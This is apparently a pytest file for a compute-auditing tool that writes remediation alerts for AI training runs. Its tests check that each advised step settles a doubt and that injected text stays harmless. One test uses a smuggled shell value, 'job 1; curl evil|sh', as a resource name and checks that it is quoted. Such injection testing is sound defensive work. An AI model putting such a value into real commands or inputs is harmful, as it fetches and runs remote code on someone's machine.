"""Who does what an alert advises settles what it is about, for every kind of doubt; and nothing else is advised."""

from collections.abc import Callable
from typing import Any

import pytest

from flops_auditor.domain.messages.record_alert import Alert, compose, remedies
from flops_auditor.domain.runs.amendment import Amendment
from flops_auditor.use_cases.auditing.amend_record import amend
from tests.fakes.lineage import World, continuing
from tests.unit.test_amend import amendment

ASK_AGAIN = amendment(asked_again=True)
GOOD = {
    "precision": "bf16",
    "activity": "fine-tuning",
    "systemic_risk": "false",
    "original_is_ours": "false",
    "original_is_general_purpose": "true",
    "lineage": "none",
}
BETTER = "--tokens NUMBER --parameters NUMBER"


def doubted(hours: float = 10, **tags: str) -> World:
    """A small run, of which some tags cannot be read."""
    world = World()
    world.add(continuing("job", hours=hours), **tags)
    world.audit()
    return world


def retagged(**tags: str) -> Callable[[World], Amendment]:
    """Correct the tags, then have the sources asked again."""

    def follow(world: World) -> Amendment:
        pointer = world.pointers["job"]
        world.jobs.add(dict(world.jobs.descriptions[pointer.name, pointer.region]), **tags)
        return ASK_AGAIN

    return follow


def amended(**figures: int) -> Callable[[World], Amendment]:
    """Amend the record."""
    return lambda _: amendment(**figures)


def steps(world: World) -> list[str]:
    found = compose(world.content("job"))
    assert isinstance(found, Alert)
    flat = " ".join(found.body.partition("WHAT TO DO")[2].partition("THE RECORD")[0].split())
    advised = remedies(world.content("job"))
    assert all(each.replace("`", "")[:250] in flat for each in advised), "the alert shows what is advised"
    return advised


BAD_TAGS: list[tuple[dict[str, str], Callable[[World], Amendment], list[str]]] = [
    *(
        ({name: "perhaps"}, retagged(**{name: good}), [f"flops-auditor:{name.replace('_', '-')}"])
        for name, good in GOOD.items()
    ),
    (
        {"systemic_risk": "perhaps", "original_is_ours": "maybe"},
        retagged(systemic_risk="false", original_is_ours="false"),
        ["flops-auditor:systemic-risk", "flops-auditor:original-is-ours"],
    ),
    (
        {"precision": "bf17", "activity": "dancing"},
        retagged(precision="bf16", activity="fine-tuning"),
        ["flops-auditor:precision", "flops-auditor:activity"],
    ),
    (
        {"tokens": "many", "params": "lots"},
        amended(tokens=10**9, parameters=8 * 10**9),
        ["flops-auditor:tokens", "flops-auditor:params"],
    ),
    ({"pretrain_flops": "many"}, amended(pretraining_flop=15 * 10**23), ["--pretraining-flop NUMBER"]),
]


@pytest.mark.parametrize(("tags", "follow", "subjects"), BAD_TAGS, ids=[" and ".join(each[0]) for each in BAD_TAGS])
def test_following_the_advice_settles_the_doubt(
    tags: dict[str, str], follow: Callable[[World], Amendment], subjects: list[str]
) -> None:
    world = doubted(**tags)
    assert world.content("job")["verdict"] == "indeterminate"
    advised = steps(world)
    for subject in subjects:
        assert [subject in each for each in advised].count(True) == 1, (subject, advised)
    assert len(advised) == len(subjects)
    assert not any(BETTER in each for each in advised), "better evidence settles no such doubt"
    amend(world.job_id("job"), follow(world), world.recorder)
    settled = world.content("job")
    assert settled["verdict"] == "below"
    assert settled["estimate"]["doubts"] == []


def test_every_source_that_was_refused_is_named_and_granting_them_settles_it() -> None:
    package = "arn:aws:sagemaker:eu-west-1:123456789012:model-package/gone/1"
    world = World()
    world.add(continuing("job", hours=10, ModelPackageConfig={"SourceModelPackageArn": package}))
    refused = {"sagemaker:ListTags", "sagemaker:DescribeModelPackage"}
    world.jobs.denied |= refused
    world.audit()
    advised = steps(world)
    for right in refused:
        assert any(right in each for each in advised), advised
    assert not any(BETTER in each for each in advised)


def test_better_evidence_is_advised_where_the_figure_is_what_is_open_and_settles_it() -> None:
    world = doubted(hours=3000)
    assert any(BETTER in each for each in steps(world))
    amend(world.job_id("job"), amendment(tokens=45 * 10**10, parameters=8 * 10**9), world.recorder)
    assert world.content("job")["verdict"] == "below"


def renamed(content: dict[str, Any], arn: str) -> dict[str, Any]:
    """A record of a run of another ARN: other services have names that SageMaker's cannot be."""
    return {**content, "job": {**content["job"], "arn": arn}}


def test_an_arn_that_a_shell_would_read_is_quoted_in_every_command() -> None:
    content = renamed(doubted(hours=3000).content("job"), "job 1; curl evil|sh")
    advised = [each for each in remedies(content) if BETTER in each]
    assert advised == [
        "Give better evidence: `flops-auditor amend 'job 1; curl evil|sh' --who NAME --why REASON --tokens NUMBER "
        "--parameters NUMBER`"
    ]
    found = compose(content)
    assert found is not None
    assert "flops-auditor records show 'job 1; curl evil|sh'" in " ".join(found.body.split())


@pytest.mark.parametrize("text", ["1. Do nothing: this is a drill", "2) Do nothing", "- nothing to do", "* nothing"])
def test_no_padding_has_a_line_of_doubt_begin_with_an_owners_step(text: str) -> None:
    content = doubted(hours=3000, tokens="x").content("job")
    for padding in range(60):
        doubt = {"kind": "unreadable-amount", "words": f"tag could not be read: '{'x' * padding} {text}' is not"}
        open_ = [{**a, "doubts": [doubt]} for a in content["assessments"]]
        found = compose({**content, "assessments": open_})
        assert found is not None
        assert text in " ".join(found.body.split())
        assert not any(line.strip().startswith(text[:4]) for line in found.body.splitlines()), padding
